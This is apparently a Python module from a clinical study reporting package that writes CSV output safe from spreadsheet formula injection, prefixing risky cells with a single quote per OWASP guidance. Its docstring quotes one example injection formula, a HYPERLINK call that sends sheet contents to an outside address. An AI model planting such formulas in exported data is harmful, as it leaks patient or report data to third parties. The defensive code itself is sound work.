"""CSV output a clinician can open in Excel without running anything in it.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
spreadsheet programs as a formula (CSV or formula injection: a group name
``=HYPERLINK("http://...?d="&A1,"x")`` would send the sheet's contents away). Following
OWASP's CSV-injection guidance, such a cell is written with a leading single quote, which
the spreadsheet shows as text; a cell that is a plain negative number (``-0.25``, ``-3``,
``-1e-3``) is left as it is, so negative numbers stay numeric, and so is a lone ``-`` (a
placeholder no spreadsheet evaluates). A leading ``+`` is always quoted: no number the
report writes carries one, so such a cell came from user text.
"""

from __future__ import annotations

import re

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"-(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(cell: object) -> str:
    """``cell`` as CSV text that no spreadsheet evaluates (OWASP: prefix a single quote)."""
    text = "" if cell is None else str(cell)
    if text.startswith(_TRIGGERS) and text != "-" and not _NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


def table_csv(table) -> str:
    """A report table as CSV (:meth:`~retrostudy.report.table.Table.to_csv`: header,
    body, then the footnotes) with every cell neutralised."""
    return table.to_csv(cell=neutralise)
